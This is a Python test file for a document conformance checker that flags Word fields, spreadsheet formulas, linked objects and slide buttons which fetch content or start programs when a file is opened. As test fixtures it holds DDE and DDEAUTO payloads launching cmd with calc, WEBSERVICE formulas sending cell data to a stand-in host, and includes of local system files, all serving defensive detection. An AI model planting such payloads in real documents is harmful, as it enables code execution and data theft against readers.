"""Nothing in a file may fetch or start anything when it is opened: fields, formulas, linked objects, remote links."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path
from typing import Any

import openpyxl
import pytest
from docx.oxml import parse_xml
from docx.oxml.ns import nsdecls
from openpyxl.workbook.defined_name import DefinedName

from coursegen.conform import judged
from tests.conform.judge import SOCIEUX, all_of, faults
from tests.conform.material import good_deck, good_document, good_workbook, rewritten

_OLE = bytes.fromhex("D0CF11E0A1B11AE1")
_REL = '<Relationship Id="rIdZ" Type="http://x/{kind}" Target="{target}" TargetMode="External"/></Relationships>'
_NAMES = (
    'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" xmlns:xlink="http://www.w3.org/1999/xlink" '
    'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" '
    'xmlns:draw="urn:oasis:names:tc:opendocument:xmlns:drawing:1.0" '
    'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
    'xmlns:style="urn:oasis:names:tc:opendocument:xmlns:style:1.0"'
)


def _field(*codes: str) -> Any:
    """A paragraph with a field whose code is cut in runs as Word cuts it."""
    runs = "".join(f'<w:r><w:instrText xml:space="preserve">{code}</w:instrText></w:r>' for code in codes)
    begin, middle, end = (f'<w:r><w:fldChar w:fldCharType="{one}"/></w:r>' for one in ("begin", "separate", "end"))
    return parse_xml(f"<w:p {nsdecls('w')}>{begin}{runs}{middle}<w:r><w:t>42</w:t></w:r>{end}</w:p>")


def _document(path: Path, *codes: str) -> Path:
    def change(document: Any) -> None:
        document.add_heading("Annexe", 1)._p.addnext(_field(*codes))

    return good_document(path, change)


@pytest.mark.parametrize(
    "codes",
    [
        (r' DDEAUTO c:\\windows\\cmd.exe "/k calc" ',),
        (" DD", 'E excel "a" "b" '),
        (' INCLUDEPICTURE "http://x.example/a.png" \\d ',),
        (' INCLUDETEXT "file:///etc/hostname" ',),
        (' LINK Excel.Sheet.12 "C:\\a.xlsx" "F1" ',),
    ],
)
def test_a_field_that_loads_or_starts_something_is_told_with_its_place(tmp_path: Path, codes: tuple[str, ...]) -> None:
    found = faults(_document(tmp_path / "a.docx", *codes))["CNF-04"]
    assert "".join(codes).split()[0] in found.message
    assert found.place.words == "sous le titre « Annexe »"
    assert "Alt+F9" in found.remedy


def test_a_field_spelled_by_the_numbers_of_its_letters_is_found(tmp_path: Path) -> None:
    def change(document: Any) -> None:
        outer, inner = _field(' x "/k calc" '), _field(" QUOTE 68 68 69 65 85 84 79 ")
        for run in reversed(list(inner)):
            outer[0].addnext(run)
        document.element.body.insert(0, outer)

    assert "DDEAUTO" in faults(good_document(tmp_path / "a.docx", change))["CNF-04"].message


@pytest.mark.parametrize("codes", [(" PAGE ",), (' HYPERLINK "http://x.example" ',), (" TOC \\o ",), (" DATE ",)])
def test_harmless_fields_stay(tmp_path: Path, codes: tuple[str, ...]) -> None:
    assert all_of(_document(tmp_path / "a.docx", *codes), "CNF-04") == []


@pytest.mark.parametrize(
    "formula",
    [
        '=_xlfn.WEBSERVICE("http://x.example/a")',
        '=_xlfn.FILTERXML(A1,"//a")',
        "='file:///etc/[hostname]x'!A1",
        "='C:\\Comptes\\[paie.xlsx]Feuil1'!A1",
        "=[paie.xlsx]Feuil1!A1+1",
        "=[1]Feuil1!A1",
        "=cmd|'/c calc'!A1",
        '=RTD("a.b",,"c")',
    ],
)
def test_a_formula_that_leads_out_of_the_workbook_is_told_with_its_cell(tmp_path: Path, formula: str) -> None:
    def change(book: Any) -> None:
        book.active["B7"] = formula

    found = faults(good_workbook(tmp_path / "a.xlsx", change))["CNF-04"]
    assert found.place.words == "feuille « Présences », cellule B7"
    assert formula[1:] in found.message


@pytest.mark.parametrize(
    "formula",
    [
        '=HYPERLINK("http://x.example","ici")',
        "=SUM(Presences[Jours])+'Année 2024'!B2+'A'!B2",
        '="voir http://x.example et [x.xlsx]a!"',
        "=[0]!Total",
        "=Table1[[#This Row],[Jours]]*2",
    ],
)
def test_links_that_a_reader_follows_and_formulas_of_the_same_book_stay(tmp_path: Path, formula: str) -> None:
    def change(book: Any) -> None:
        book.active["B7"] = formula
        book.active["B8"].hyperlink = "https://x.example"

    assert all_of(good_workbook(tmp_path / "a.xlsx", change), "CNF-04") == []


def test_a_name_and_a_rule_of_a_workbook_are_read_too(tmp_path: Path) -> None:
    def change(book: Any) -> None:
        from openpyxl.workbook.defined_name import DefinedName
        from openpyxl.worksheet.datavalidation import DataValidation

        book.defined_names["Taux"] = DefinedName("Taux", attr_text="'[paie.xlsx]F'!$A$1")
        book.active.add_data_validation(DataValidation(type="list", formula1="'[paie.xlsx]F'!$A$1:$A$9", sqref="C1"))

    assert len(all_of(good_workbook(tmp_path / "a.xlsx", change), "CNF-04")) == 2


def test_links_to_another_workbook_and_to_a_program_are_told(tmp_path: Path) -> None:
    main = 'xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"'
    dde = '<ddeLink ddeService="cmd" ddeTopic="/c calc"/>'
    parts = {
        "xl/externalLinks/externalLink1.xml": f'<externalLink {main}>{dde}</externalLink>',
        "xl/externalLinks/_rels/externalLink2.xml.rels": "<Relationships>"
        + _REL.format(kind="externalLinkPath", target="http://x.example/a.xlsx"),
    }  # fmt: skip
    path = rewritten(
        good_workbook(tmp_path / "a.xlsx"), lambda _n, data: data, **{k: v.encode() for k, v in parts.items()}
    )
    said = " ".join(one.message for one in all_of(path, "CNF-04"))
    assert "cmd /c calc" in said and "http://x.example/a.xlsx" in said


@pytest.mark.parametrize("kind", ["oleObject", "image", "video", "attachedTemplate", "subDocument"])
def test_a_linked_object_picture_or_template_is_told_and_a_hyperlink_is_not(tmp_path: Path, kind: str) -> None:
    def with_link(name: str) -> Path:
        rel = _REL.format(kind=name, target="file:///x.xlsx").encode()
        return rewritten(
            good_document(tmp_path / "a.docx"),
            lambda n, data: data.replace(b"</Relationships>", rel) if n == "word/_rels/document.xml.rels" else data,
        )

    assert "file:///x.xlsx" in faults(with_link(kind))["CNF-04"].message
    assert all_of(with_link("hyperlink"), "CNF-04") == []


def test_a_button_of_a_slide_that_starts_a_program_is_told(tmp_path: Path) -> None:
    def change(deck: Any) -> None:
        from pptx.oxml import parse_xml as parsed

        space = 'xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main"'
        shape = deck.slides[1].shapes[0]._element.nvSpPr.cNvPr
        shape.append(parsed(f'<a:hlinkClick {space} action="ppaction://program"/>'))

    found = faults(good_deck(tmp_path / "a.pptx", change))["CNF-04"]
    assert found.place.number == 2 and "ppaction://program" in found.message


def _open_document(path: Path, body: str, kind: str = "text") -> Path:
    with zipfile.ZipFile(path, "w") as archive:
        archive.writestr("mimetype", f"application/vnd.oasis.opendocument.{kind}")
        archive.writestr(
            "content.xml",
            f"<office:document-content {_NAMES}><office:body><office:{kind}>{body}</office:{kind}></office:body>"
            "</office:document-content>",
        )
    return path


@pytest.mark.parametrize(
    ("kind", "body", "words"),
    [
        ("text", '<draw:frame><draw:image xlink:href="http://x.example/a.png"/></draw:frame>', "x.example"),
        ("text", '<draw:frame><draw:object-ole xlink:href="../a.doc"/></draw:frame>', "../a.doc"),
        ("text", '<text:section><text:section-source xlink:href="file:///etc/a"/></text:section>', "file:///etc/a"),
        ("text", '<style:background-image xlink:href="//x.example/a.png"/>', "x.example"),
        (
            "text",
            '<text:dde-connection-decl office:dde-application="soffice" office:dde-topic="a.ods"/>',
            "DDE : soffice a.ods",
        ),
        (
            "spreadsheet",
            '<table:table table:name="F"><table:table-cell table:formula="of:=[\'file:///etc/a\'#$F.A1]"/></table:table>',
            "file:///etc/a",
        ),
        (
            "spreadsheet",
            '<table:table table:name="F"><table:table-cell table:formula="of:=WEBSERVICE(&quot;http://x&quot;)"/>'
            "</table:table>",
            "WEBSERVICE",
        ),
    ],
)
def test_a_remote_link_of_an_open_document_is_told(tmp_path: Path, kind: str, body: str, words: str) -> None:
    path = _open_document(tmp_path / ("a.odt" if kind == "text" else "a.ods"), body, kind)
    found = all_of(path, "CNF-04")
    assert [words in one.message for one in found] == [True]
    assert kind == "text" or found[0].place.words == "feuille « F »"


def test_ordinary_links_of_an_open_document_stay(tmp_path: Path) -> None:
    body = (
        '<text:p><text:a xlink:href="https://x.example">ici</text:a></text:p>'
        '<draw:frame><draw:image xlink:href="Pictures/a.png"/></draw:frame>'
        '<draw:frame><draw:object xlink:href="./Object 1"/></draw:frame>'
    )
    assert all_of(_open_document(tmp_path / "a.odt", body), "CNF-04") == []


@pytest.mark.parametrize("code", [b"\x13 DDEAUTO cmd", b"\x13 INCLUDEPICTURE x", "\x13 DDE x".encode("utf-16-le")])
def test_an_old_document_with_such_a_field_is_not_even_opened(tmp_path: Path, code: bytes) -> None:
    path = tmp_path / "a.doc"
    path.write_bytes(_OLE + bytes(600) + "WordDocument".encode("utf-16-le") + code)
    found = judged(path, SOCIEUX).findings
    assert [one.rule for one in found] == ["CNF-00"]
    assert "champs" in found[0].message


def _charted(path: Path, change: Any) -> Path:
    """A deck with a chart, and `change` done to the workbook behind it."""
    from pptx.chart.data import CategoryChartData
    from pptx.enum.chart import XL_CHART_TYPE
    from pptx.util import Cm

    def chart(deck: Any) -> None:
        data = CategoryChartData()
        data.categories = ["Nord", "Côte"]
        data.add_series("Retards", (1, 3))
        place = (Cm(1), Cm(1), Cm(4), Cm(3))
        shown = deck.slides[0].shapes.add_chart(XL_CHART_TYPE.COLUMN_CLUSTERED, *place, data)
        book = openpyxl.load_workbook(io.BytesIO(shown.chart.part.chart_workbook.xlsx_part.blob))
        change(book)
        out = io.BytesIO()
        book.save(out)
        shown.chart.part.chart_workbook.xlsx_part._blob = out.getvalue()

    return good_deck(path, chart)


@pytest.mark.parametrize(
    "formula", ['=WEBSERVICE("http://x.example/?"&A1)', "='[salaires.xlsx]Sheet1'!A1", "=cmd|'/c calc'!A1"]
)
def test_a_formula_behind_a_chart_that_leads_out_is_told(tmp_path: Path, formula: str) -> None:
    deck = _charted(tmp_path / "d.pptx", lambda book: book.active.__setitem__("D1", formula))
    found = faults(deck)["CNF-04"]
    assert formula[1:9] in found.message and ".xlsx" in found.message


def test_a_name_behind_a_chart_that_leads_out_is_told(tmp_path: Path) -> None:
    def change(book: Any) -> None:
        book.defined_names["Source"] = DefinedName("Source", attr_text='WEBSERVICE("http://x.example")')

    assert "WEBSERVICE" in faults(_charted(tmp_path / "d.pptx", change))["CNF-04"].message


def test_an_ordinary_chart_stays(tmp_path: Path) -> None:
    deck = _charted(tmp_path / "d.pptx", lambda book: book.active.__setitem__("D1", "=SUM(B2:B3)"))
    assert "CNF-04" not in faults(deck)


def test_a_file_inside_the_workbook_of_a_chart_is_told_and_not_opened(tmp_path: Path) -> None:
    deck = _charted(tmp_path / "d.pptx", lambda _book: None)
    (inner,) = (name for name in zipfile.ZipFile(deck).namelist() if "embeddings/" in name)
    book = tmp_path / "book.xlsx"
    book.write_bytes(zipfile.ZipFile(deck).read(inner))
    with zipfile.ZipFile(book, "a") as archive:
        archive.writestr("xl/embeddings/poupee.xlsx", zipfile.ZipFile(deck).read(inner))
    rewritten(deck, lambda name, data: book.read_bytes() if name == inner else data)
    assert "poupee.xlsx" in faults(deck)["CNF-04"].message
